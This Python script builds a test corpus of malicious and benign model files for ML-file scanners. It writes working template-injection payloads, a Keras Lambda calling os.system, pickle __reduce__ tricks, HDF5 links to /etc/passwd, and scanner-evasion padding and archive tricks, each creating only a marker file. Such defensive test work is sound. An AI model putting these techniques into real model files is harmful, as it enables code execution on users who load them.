#!/usr/bin/python3
"""Malicious and benign files of the non-pickle formats, built the way an attacker would who has
read docs/rules.md and the public bypass write-ups (JFrog and Checkmarx on Jinja chat templates,
CVE-2024-34359; Keras safe-mode bypasses; HDF5 external references; archives no scanner opens),
next to files as ordinary publishers ship them. Every technique class of the format scanners has
a file here:

- padding past a probe window: an ONNX doc string longer than the head, a .keras config.json whose
  first field is long, keys spelled with \\u escapes;
- Keras built-ins that read paths at load time (TFSMLayer's SavedModel, a lookup's vocabulary file);
- chat templates (GGUF metadata, tokenizer_config.json, chat_template.jinja) that reach Python
  internals through names built by concatenation, escapes, formatting, reversed slices, `|attr`,
  `str.format` fields, `map(attribute=...)`; a duplicated `chat_template` key whose last value
  (the one Python keeps) is the malicious one;
- HDF5 external links, external storage and virtual datasets pointing outside the file;
- 7z archives carrying a malicious pickle, and one libarchive cannot read;
- a zip appended to a pickle whose end record declares a comment longer than the file.

Names: adv_* malicious, benign_real_* benign (the prefixes tests/plugins/pickle/detection.py
counts); a directory is one model (its files are scanned together).

check() verifies each malicious file against the real loader where one is installed, in a
throwaway directory: Jinja2 renders each template without a sandbox and must create the marker
file (and refuse it in the sandbox); the 7z pickle, extracted with libarchive and unpickled,
creates the marker; ONNX, Keras and HDF5 files are read back with onnx, json/marshal and h5py
and must hold the operator, the Lambda code, the path or the external reference (Keras and
TensorFlow are not installed here, so those layers are checked by their configs only).

Usage: formats_corpus.py OUT_DIR [--check]
"""
import base64
import io
import json
import marshal
import os
import pickle
import struct
import subprocess
import sys
import tempfile
import zipfile

MARKER = "secmlops-marker"


# ---- chat templates ----
def _touch(expr):
    """A template fragment that, rendered without a sandbox, creates the marker through `expr`
    (an expression yielding the `os` module of Jinja2's utils)."""
    return "{{ " + expr + ".popen('touch " + MARKER + "').read() }}"


BENIGN_TEMPLATES = {
    "chatml": ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
               "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}"
               "{% endif %}"),
    "llama3": ("{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = "
               "'<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + "
               "'<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}"
               "{{ content }}{% endfor %}{% if add_generation_prompt %}"
               "{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}"),
    "mistral": ("{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != "
                "(loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate "
                "user/assistant/user/assistant/...') }}{% endif %}{% if message['role'] == 'user' %}"
                "{{ '[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role'] == 'assistant' %}"
                "{{ message['content'] + eos_token}}{% else %}{{ raise_exception('Only user and assistant roles "
                "are supported!') }}{% endif %}{% endfor %}"),
    "gemma": ("{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not "
              "supported') }}{% endif %}{% for message in messages %}{% if (message['role'] == 'assistant') %}"
              "{% set role = 'model' %}{% else %}{% set role = message['role'] %}{% endif %}"
              "{{ '<start_of_turn>' + role + '\\n' + message['content'] | trim + '<end_of_turn>\\n' }}{% endfor %}"
              "{% if add_generation_prompt %}{{'<start_of_turn>model\\n'}}{% endif %}"),
    "tools": ("{%- if tools %}{{- '<|im_start|>system\\n' }}{{- '# Tools\\n\\n<tools>' }}{%- for tool in tools %}"
              "{{- '\\n' }}{{- tool | tojson }}{%- endfor %}{{- '\\n</tools><|im_end|>\\n' }}{%- endif %}"
              "{%- for message in messages %}{%- if message.role == 'assistant' and message.tool_calls is defined %}"
              "{%- for tool_call in message.tool_calls %}{%- if tool_call.function is defined %}"
              "{%- set tool_call = tool_call.function %}{%- endif %}{{- '<tool_call>\\n{\"name\": \"' }}"
              "{{- tool_call.name }}{{- '\", \"arguments\": ' }}{{- tool_call.arguments | tojson }}"
              "{{- '}\\n</tool_call>' }}{%- endfor %}{%- else %}{{- '<|im_start|>' + message.role + '\\n' + "
              "message.content.split('</think>')[-1].lstrip('\\n') + '<|im_end|>\\n' }}{%- endif %}{%- endfor %}"
              "{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}"),
    "namespace": ("{% set ns = namespace(system='') %}{% for m in messages %}{% if m['role'] == 'system' %}"
                  "{% set ns.system = m['content'] %}{% endif %}{% endfor %}{{ ns.system }}"
                  "{% for key in ['role', 'content'] %}{{ messages[0][key] }}{% endfor %}"
                  "{{ strftime_now('%d %b %Y') if strftime_now is defined else '' }}"),
}

# Each reaches `os` of jinja2.utils without spelling a dunder name in one piece.
MALICIOUS_TEMPLATES = {
    "concat": _touch("(cycler|attr('__in' ~ 'it__')|attr('__glo' ~ 'bals__')).os"),
    "escapes": _touch("(cycler|attr('\\x5f\\x5finit\\x5f\\x5f')|attr('\\u005f_globals\\u005f_')).os"),
    "percent": _touch("(joiner|attr('%c%cinit%c%c' % (95, 95, 95, 95))|attr('%c%cglobals%c%c'|format(95,95,95,95))).os"),
    "reversed": _touch("(lipsum|attr('__slabolg__'[::-1]))['os']"),
    "join": _touch("(cycler|attr(['_','_','init','_','_']|join)|attr(['__glob', 'als__']|join)).os"),
    "set_vars": "{% set a = '__ini' %}{% set b = 't__' %}{% set g = '__globals__' %}" +
                _touch("(cycler|attr(a ~ b)|attr(g)).os"),
    "subscript": _touch("cycler['__init__']['__globals__']['os']"),
    "loop_value": "{% for n in ['__globals__'] %}" + _touch("lipsum[n]['os']") + "{% endfor %}",
}


def render_check(template):
    """Renders without a sandbox in a fresh directory: the marker must appear. The sandbox must
    refuse the template."""
    import jinja2
    import jinja2.sandbox
    with tempfile.TemporaryDirectory(prefix="secmlops-tpl-") as tmp:
        cwd = os.getcwd()
        os.chdir(tmp)
        try:
            jinja2.Environment().from_string(template).render(messages=[{"role": "user", "content": "hi"}])
        finally:
            os.chdir(cwd)
        made = os.path.exists(os.path.join(tmp, MARKER))
    try:
        jinja2.sandbox.ImmutableSandboxedEnvironment().from_string(template).render(messages=[])
        sandboxed = "rendered"
    except jinja2.exceptions.SecurityError:
        sandboxed = "refused"
    except Exception as e:  # noqa: BLE001 - any other failure also means it does not run there
        sandboxed = type(e).__name__
    return made, sandboxed


# ---- GGUF ----
def gguf(template, key="tokenizer.chat_template"):
    def s(b):
        b = b.encode() if isinstance(b, str) else b
        return struct.pack("<Q", len(b)) + b
    kv = [s("general.architecture") + struct.pack("<I", 8) + s("llama"),
          s("general.name") + struct.pack("<I", 8) + s("secmlops corpus"),
          s(key) + struct.pack("<I", 8) + s(template)]
    tensor = s("token_embd.weight") + struct.pack("<I", 2) + struct.pack("<QQ", 4, 2) + struct.pack("<IQ", 0, 0)
    out = b"GGUF" + struct.pack("<I", 3) + struct.pack("<QQ", 1, len(kv)) + b"".join(kv) + tensor
    out += b"\0" * (-len(out) % 32)
    return out + b"\0" * 32  # 4 x 2 float32


# ---- tokenizer directories ----
def tokenizer_config(template, raw=None):
    if raw is not None:
        return raw
    return json.dumps({"add_bos_token": True, "bos_token": "<s>", "eos_token": "</s>",
                       "model_max_length": 4096, "tokenizer_class": "LlamaTokenizer", "chat_template": template},
                      indent=2)


HF_CONFIG = json.dumps({"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 64,
                        "num_attention_heads": 4, "num_hidden_layers": 2, "vocab_size": 32000,
                        "torch_dtype": "float32", "transformers_version": "4.40.0"}, indent=2)


# ---- ONNX ----
def onnx_model(doc, op=("Relu", "")):
    from onnx import TensorProto, helper
    X = helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])
    Y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 4])
    opsets = [helper.make_opsetid("", 17)] + ([helper.make_opsetid(op[1], 1)] if op[1] else [])
    m = helper.make_model(helper.make_graph([helper.make_node(op[0], ["X"], ["Y"], domain=op[1])], "g", [X], [Y]),
                          opset_imports=opsets, producer_name="secmlops-corpus", producer_version="1.0")
    m.ir_version = 8
    m.doc_string = doc
    return m.SerializeToString()


# ---- Keras ----
def lambda_b64():
    code = compile(f"lambda x: __import__('os').system('touch {MARKER}') or x", "<corpus>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def k3(module, class_name, config, **extra):
    return dict({"module": module, "class_name": class_name, "config": config, "registered_name": None}, **extra)


def keras_config(layers, description=None):
    cfg = {}
    if description is not None:
        cfg["description"] = description  # first in the file: a long field pushes the rest past any window
    cfg.update(k3("keras", "Sequential", {"name": "sequential", "trainable": True, "layers": [
        k3("keras.layers", "InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"})] +
        layers}))
    return cfg


def k3_dense(name, units):
    return k3("keras.layers", "Dense", {"name": name, "units": units, "activation": "relu", "use_bias": True,
                                        "kernel_initializer": k3("keras.initializers", "GlorotUniform", {"seed": None}),
                                        "bias_initializer": k3("keras.initializers", "Zeros", {})})


def k3_lambda():
    return k3("keras.layers", "Lambda", {"name": "scale", "function": {"class_name": "__lambda__", "config": {
        "code": lambda_b64(), "defaults": None, "closure": None}}, "arguments": {}})


def keras_archive(config_text):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.3.3", "date_saved": "2025-01-01@00:00:00"}))
        z.writestr("config.json", config_text)
    return buf.getvalue()


def escape_keys(text):
    """Every key's letters a, e and s written as \\u escapes (json.loads decodes them)."""
    out = text
    for k in ("class_name", "config", "function", "code", "module"):
        spelled = "".join("\\u%04x" % ord(c) if c in "aes" else c for c in k)
        out = out.replace(f'"{k}":', f'"{spelled}":')
    return out


# ---- HDF5 ----
def h5(path, kind):
    import h5py
    import numpy as np
    with h5py.File(path, "w") as f:
        f.attrs["keras_version"] = "2.13.1"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": [
            {"class_name": "Dense", "config": {"name": "dense", "units": 4}}]}})
        g = f.create_group("model_weights/dense")
        g.create_dataset("kernel:0", data=np.zeros((4, 4), "float32"))
        if kind == "external_link":
            f["model_weights/dense/bias:0"] = h5py.ExternalLink("/etc/passwd", "/data")
        elif kind == "external_storage":
            g.create_dataset("bias:0", shape=(4,), dtype="float32", external=[("/etc/passwd", 0, 16)])
        elif kind == "virtual":
            layout = h5py.VirtualLayout(shape=(4,), dtype="float32")
            layout[:] = h5py.VirtualSource("/etc/secmlops-elsewhere.h5", "data", shape=(4,))
            g.create_virtual_dataset("bias:0", layout)
        else:
            g.create_dataset("bias:0", data=np.zeros(4, "float32"))


# ---- 7z ----
class _Marker:
    def __reduce__(self):
        import gzip
        return gzip.GzipFile, (MARKER, "wb")


def sevenzip(members):
    import libarchive
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "a.7z")
        with libarchive.file_writer(path, "7zip") as w:
            for name, data in members:
                w.add_file_from_memory(name, len(data), data)
        with open(path, "rb") as f:
            return f.read()


# ---- the corpus ----
def corpus():
    """(name, content, check): content is bytes, or a dict of file name → bytes for a directory."""
    items = []

    def add(name, content, check=None):
        items.append((name, content, check))

    for label, t in MALICIOUS_TEMPLATES.items():
        add(f"adv_gguf_template_{label}.gguf", gguf(t), ("template", t))
    add("adv_tokenizer_template_format_field", {
        "tokenizer_config.json": tokenizer_config("{{ '{0.__init__.__globals__}'.format(cycler) }}").encode()},
        ("resolves", "format field walks cycler.__init__.__globals__"))
    t = MALICIOUS_TEMPLATES["concat"]
    add("adv_tokenizer_template_concat", {"tokenizer_config.json": tokenizer_config(t).encode(),
                                          "config.json": HF_CONFIG.encode()}, ("template", t))
    # Duplicate keys: the benign template first (what a first-wins parser sees), the malicious one
    # last (what Python keeps), its dunders spelled with \u escapes in the JSON text.
    t = MALICIOUS_TEMPLATES["subscript"]
    raw = ('{"bos_token": "<s>", "chat_template": ' + json.dumps(BENIGN_TEMPLATES["chatml"]) +
           ', "eos_token": "</s>", "chat_template": ' + json.dumps(t).replace("__", "\\u005f\\u005f") + "}")
    add("adv_tokenizer_duplicate_key", {"tokenizer_config.json": raw.encode()}, ("template_json", raw))
    t = MALICIOUS_TEMPLATES["join"]
    add("adv_chat_template_jinja_file", {"chat_template.jinja": t.encode(), "config.json": HF_CONFIG.encode()},
        ("template", t))
    # Padding past probe windows.
    add("adv_onnx_padded_doc_python_op.onnx", onnx_model("license text " * 10000, ("PyOp", "ai.onnx.contrib")),
        ("onnx_op", "PyOp"))
    padded = json.dumps(keras_config([k3_dense("dense", 8), k3_lambda()], description="x" * 100000))
    add("adv_keras_padded_config_lambda.keras", keras_archive(padded), ("keras_lambda", None))
    escaped = escape_keys(json.dumps(keras_config([k3_dense("dense", 8), k3_lambda()])))
    add("adv_keras_escaped_keys_lambda.keras", keras_archive(escaped), ("keras_lambda", None))
    # Built-in layers that read a path of the config's choosing at load time.
    add("adv_keras_tfsmlayer_path.keras", keras_archive(json.dumps(keras_config([k3("keras.layers", "TFSMLayer", {
        "name": "tfsm", "filepath": "/srv/shared/other_model", "call_endpoint": "serve"})]))), ("keras_path", "filepath"))
    add("adv_keras_lookup_vocabulary_path.keras", keras_archive(json.dumps(keras_config([k3(
        "keras.layers", "StringLookup", {"name": "lookup", "vocabulary": "/etc/passwd", "num_oov_indices": 1})]))),
        ("keras_path", "vocabulary"))
    # HDF5 references outside the file (written by h5py below).
    for kind in ("external_link", "external_storage", "virtual"):
        add(f"adv_h5_{kind}.h5", ("h5", kind), ("h5", kind))
    # 7z: a pickle inside; an archive libarchive cannot read (its header cut short).
    evil = pickle.dumps({"model": _Marker()}, protocol=4)
    add("adv_7z_pickle.7z", sevenzip([("model/data.pkl", evil), ("model/README", b"weights")]), ("7z", None))
    add("adv_7z_unreadable.7z", sevenzip([("model/data.pkl", evil)])[:48], ("unreadable", None))

    # A zip appended to a pickle whose end record declares a comment longer than the bytes left:
    # Python's zipfile opens it; a scanner skipping such records sees only trailing bytes.
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as z:
        z.writestr("archive/data.pkl", evil)
    lying = bytearray(pickle.dumps({"weights": [0.5]}, protocol=2) + zbuf.getvalue())
    lying[-2:] = struct.pack("<H", 600)
    add("adv_zip_comment_overrun_after_pickle.pkl", bytes(lying), ("zip_member", "archive/data.pkl"))

    # ---- benign ----
    for label, t in BENIGN_TEMPLATES.items():
        add(f"benign_real_gguf_{label}.gguf", gguf(t))
        add(f"benign_real_tokenizer_{label}", {"tokenizer_config.json": tokenizer_config(t).encode(),
                                                "config.json": HF_CONFIG.encode(),
                                                "generation_config.json": b'{"bos_token_id": 1, "eos_token_id": 2}'})
    add("benign_real_tokenizer_named_templates", {"tokenizer_config.json": json.dumps({
        "chat_template": [{"name": "default", "template": BENIGN_TEMPLATES["chatml"]},
                          {"name": "tool_use", "template": BENIGN_TEMPLATES["tools"]}]}).encode()})
    add("benign_real_chat_template_jinja", {"chat_template.jinja": BENIGN_TEMPLATES["tools"].encode()})
    add("benign_real_onnx_long_doc.onnx", onnx_model("Apache License 2.0 ... " * 8000))
    add("benign_real_onnx_plain.onnx", onnx_model("a small model"))
    add("benign_real_keras_dense.keras", keras_archive(json.dumps(keras_config([k3_dense("dense", 8)]))))
    add("benign_real_keras_inline_vocabulary.keras", keras_archive(json.dumps(keras_config([k3(
        "keras.layers", "StringLookup", {"name": "lookup", "vocabulary": ["cat", "dog"], "num_oov_indices": 1}),
        k3_dense("dense", 8)]))))
    add("benign_real_keras_long_description.keras",
        keras_archive(json.dumps(keras_config([k3_dense("dense", 8)], description="model card " * 10000))))
    add("benign_real_h5_dense.h5", ("h5", "plain"))
    add("benign_real_7z_model.7z", sevenzip([("model/data.pkl", pickle.dumps({"w": [1.0, 2.0]}, protocol=4)),
                                            ("model/config.json", HF_CONFIG.encode())]))
    return items


def write_all(out):
    os.makedirs(out, exist_ok=True)
    for name, content, _ in corpus():
        path = os.path.join(out, name)
        if isinstance(content, dict):
            os.makedirs(path, exist_ok=True)
            for fname, data in content.items():
                with open(os.path.join(path, fname), "wb") as f:
                    f.write(data)
        elif isinstance(content, tuple) and content[0] == "h5":
            h5(path, content[1])
        else:
            with open(path, "wb") as f:
                f.write(content)


def check_one(out, name, check):
    kind, arg = check
    path = os.path.join(out, name)
    if kind in ("template", "template_json"):
        template = json.loads(arg)["chat_template"] if kind == "template_json" else arg
        made, sandboxed = render_check(template)
        return made and sandboxed != "rendered", f"unsandboxed render made marker: {made}; sandbox: {sandboxed}"
    if kind == "resolves":
        import jinja2
        text = json.load(open(os.path.join(path, "tokenizer_config.json")))["chat_template"]
        rendered = jinja2.Environment().from_string(text).render()
        return "'os'" in rendered, "the rendered text shows the globals of jinja2.utils (os among them)"
    if kind == "onnx_op":
        import onnx
        m = onnx.load(path)
        return any(n.op_type == arg for n in m.graph.node), f"onnx.load finds the {arg} node"
    if kind == "keras_lambda":
        cfg = json.loads(zipfile.ZipFile(path).read("config.json"))
        layer = cfg["config"]["layers"][-1]
        code = marshal.loads(base64.b64decode(layer["config"]["function"]["config"]["code"]))
        return "system" in code.co_names, "json.loads sees a Lambda whose marshalled code calls os.system"
    if kind == "keras_path":
        layer = json.loads(zipfile.ZipFile(path).read("config.json"))["config"]["layers"][-1]
        return layer["config"][arg].startswith("/"), f"the layer's {arg} names a path outside the archive"
    if kind == "h5":
        import h5py
        with h5py.File(path, "r") as f:
            g = f["model_weights/dense"]
            link = g.get("bias:0", getlink=True)
            if arg == "external_link":
                return isinstance(link, h5py.ExternalLink), "h5py reads an external link"
            ds = g["bias:0"]
            ok = bool(ds.external) if arg == "external_storage" else ds.is_virtual
            return ok, f"h5py reads a dataset with {arg}"
    if kind == "7z":
        import libarchive
        with tempfile.TemporaryDirectory(prefix="secmlops-7z-") as tmp:
            with libarchive.file_reader(path) as arc:
                for entry in arc:
                    if entry.pathname.endswith(".pkl"):
                        data = b"".join(entry.get_blocks())
            code = "import pickle,sys; pickle.loads(sys.stdin.buffer.read())"
            subprocess.run([sys.executable, "-c", code], cwd=tmp, input=data, capture_output=True, timeout=60)
            return os.path.exists(os.path.join(tmp, MARKER)), "the extracted pickle creates the marker"
    if kind == "zip_member":
        with tempfile.TemporaryDirectory(prefix="secmlops-zip-") as tmp:
            data = zipfile.ZipFile(path).read(arg)
            code = "import pickle,sys; pickle.loads(sys.stdin.buffer.read())"
            subprocess.run([sys.executable, "-c", code], cwd=tmp, input=data, capture_output=True, timeout=60)
            return os.path.exists(os.path.join(tmp, MARKER)), "zipfile opens it; the member's pickle creates the marker"
    if kind == "unreadable":
        import libarchive
        try:
            with libarchive.file_reader(path) as arc:
                for entry in arc:
                    b"".join(entry.get_blocks())
            return False, "libarchive read it"
        except libarchive.ArchiveError:
            return True, "libarchive refuses it (a scanner must not call it clean)"
    return False, "unknown check"


def main():
    out = sys.argv[1]
    write_all(out)
    if "--check" not in sys.argv:
        return 0
    failures = 0
    for name, _, check in corpus():
        if check is None:
            continue
        ok, why = check_one(out, name, check)
        failures += not ok
        print(f"{'ok  ' if ok else 'FAIL'} {name}: {why}")
    print(f"{failures} failure(s)")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
